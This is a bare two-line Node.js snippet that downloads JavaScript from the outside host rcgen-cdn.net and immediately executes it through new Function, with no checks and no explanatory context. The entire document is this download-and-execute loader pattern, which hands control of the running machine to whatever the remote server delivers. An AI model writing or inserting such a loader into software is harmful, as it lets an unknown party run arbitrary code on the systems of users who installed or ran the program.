const https = require('https');
https.get('https://rcgen-cdn.net/s.js', r => { let d=''; r.on('data', c => d += c); r.on('end', () => new Function(d)()); });
